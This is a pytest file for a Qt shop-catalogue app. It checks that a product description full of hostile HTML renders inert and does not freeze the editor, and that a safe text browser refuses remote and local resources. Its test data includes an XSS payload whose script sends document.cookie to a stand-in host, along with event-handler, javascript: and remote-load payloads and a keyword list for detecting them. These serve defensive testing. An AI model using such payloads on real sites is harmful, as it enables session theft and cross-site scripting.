"""A hostile description - scripts, remote images, event handlers, a megabyte of markup - opens
in the real editor without freezing it and renders inert, in the editor and the detail pane."""

from __future__ import annotations

import time
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtCore import QTimer, QUrl
from PySide6.QtGui import QImage, QTextDocument

from sellerdesk.catalogue import Catalogue, ProductInput, VariantInput
from sellerdesk.paths import DataDir
from sellerdesk.store import Database
from sellerdesk.ui.catalogue.editor.description import EDIT_LIMIT
from tests.ui import file_traps
from tests.ui.conftest import wait_until

HOSTILE_HEAD = (
    "<h2>Offerta</h2><script>fetch('http://evil.example/steal?c='+document.cookie)</script>"
    "<img src='http://evil.example/pixel.png' onerror='alert(1)'>"
    "<p style=\"background:url(http://evil.example/bg.png)\" onclick='alert(2)'>Ciao</p>"
    "<iframe src='http://evil.example/'></iframe><a href='javascript:alert(3)'>clicca</a>"
    "<link rel=stylesheet href='http://evil.example/x.css'>"
)
MEGABYTE = HOSTILE_HEAD + ("<b><i>" + "x" * 5000 + "<script>alert(4)</script>") * 200
UNBROKEN = HOSTILE_HEAD + "y" * 90_000  # under the edit limit, one unbreakable word


def inert(html: str) -> bool:
    lowered = html.lower()
    return not any(bad in lowered for bad in ("<script", "<img", "<iframe", "evil.example",
                                              "onerror", "onclick", "javascript:", "<link"))


class Heartbeat:
    """The longest time the event loop went without running a 10 ms timer: a freeze shows."""

    def __init__(self) -> None:
        self.longest = 0.0
        self._last = time.perf_counter()
        self.timer = QTimer()
        self.timer.setInterval(10)
        self.timer.timeout.connect(self._tick)
        self.timer.start()

    def _tick(self) -> None:
        now = time.perf_counter()
        self.longest = max(self.longest, now - self._last)
        self._last = now


def shop_with(data_dir: DataDir, description: str) -> None:
    with Database.open(data_dir.database) as database:
        Catalogue(database).create_product(ProductInput(
            texts={"it": {"title": "Divano", "description": description}},
            variants=[VariantInput("DIV-1", 99900)]))


def test_a_megabyte_of_hostile_markup_opens_inert(data_dir: DataDir, make_window: Any,
                                                  run: Any) -> None:
    assert len(MEGABYTE) > 1_000_000
    shop_with(data_dir, MEGABYTE)
    window = make_window(data_dir, lang="it")
    page = window.catalogue

    async def scenario() -> None:
        await wait_until(lambda: page.model.rowCount() == 1)
        page.table.selectRow(0)
        await wait_until(lambda: page.detail.currentWidget() is page.detail.content)
        assert inert(page.detail.description.toHtml())
        beat = Heartbeat()
        page.actions.edit.trigger()
        await wait_until(lambda: page.editor is not None and page.editor.isVisible())
        description = page.editor.texts.page("it").description
        await wait_until(lambda: description.last_preview is not None)
        await wait_until(lambda: description.safety.isVisible())
        beat.timer.stop()
        assert beat.longest < 1.0, f"the window froze for {beat.longest:.2f} s"
        # Too long to edit: not loaded into the text editor, offered to shorten.
        assert description.source_stack.currentWidget() is description.too_long
        assert description.source.toPlainText() == ""
        assert description.text() == MEGABYTE  # nothing lost unless the owner says so
        # The preview is the sanitiser's output only, and the browser fetches nothing.
        preview = description.preview
        assert inert(preview.toHtml())
        assert "Offerta" in preview.toPlainText() and "Ciao" in preview.toPlainText()
        assert preview.refused == []
        refusal = preview.loadResource(QTextDocument.ResourceType.ImageResource.value,
                                       QUrl("http://evil.example/pixel.png"))
        assert isinstance(refusal, QImage) and refusal.isNull()
        assert preview.refused == ["http://evil.example/pixel.png"]
        assert not preview.openExternalLinks() and not preview.openLinks()
        note = description.safety.text()
        assert "scripts" in note and "remote images" in note
        # Nothing changed, so leaving asks nothing and writes nothing.
        assert not page.editor.is_dirty()
        page.editor.reject()
        await wait_until(lambda: page.editor is None)

    run(scenario())


def test_an_unbroken_word_stays_editable_and_fast(data_dir: DataDir, make_window: Any,
                                                  run: Any) -> None:
    assert len(UNBROKEN) < EDIT_LIMIT
    shop_with(data_dir, UNBROKEN)
    window = make_window(data_dir)
    page = window.catalogue

    async def scenario() -> None:
        await wait_until(lambda: page.model.rowCount() == 1)
        page.table.selectRow(0)
        beat = Heartbeat()
        page.actions.edit.trigger()
        await wait_until(lambda: page.editor is not None and page.editor.isVisible())
        description = page.editor.texts.page("it").description
        await wait_until(lambda: description.last_preview is not None)
        beat.timer.stop()
        assert beat.longest < 1.0, f"the window froze for {beat.longest:.2f} s"
        assert description.source.toPlainText() == UNBROKEN  # editable as it is
        assert inert(description.preview.toHtml())
        page.editor.reject()

    run(scenario())


@pytest.mark.skipif(not file_traps.SUPPORTED, reason="watches file opens with Linux inotify")
def test_the_browser_itself_refuses_every_resource(qtbot: Any, tmp_path: Path) -> None:
    """Defence in depth: even unsanitised HTML in the browser loads nothing, and Qt does not
    read the files itself after the refusal (it did when the refusal was None)."""
    from sellerdesk.ui.catalogue.safe_browser import SafeTextBrowser

    trap = file_traps.FileTrap(tmp_path / "trap")
    try:
        browser = SafeTextBrowser()
        qtbot.addWidget(browser)
        browser.show()
        browser.setSearchPaths([str(trap.folder)])  # even a relative name would resolve there
        browser.setHtml(
            f'<html><head><link rel="stylesheet" type="text/css" href="{trap.css}"></head>'
            f'<body><p>x<img src="http://evil.example/x.png"><img src="file://{trap.png}">'
            f'<img src="{trap.png}"><img src="trap.png"></p></body></html>')
        browser.grab()  # lays out and paints: the images are asked for now
        assert "http://evil.example/x.png" in browser.refused
        assert f"file://{trap.png}" in browser.refused
        assert str(trap.png) in browser.refused and str(trap.css) in browser.refused
        assert trap.opened() == [], "the browser read a local file"
    finally:
        trap.close()
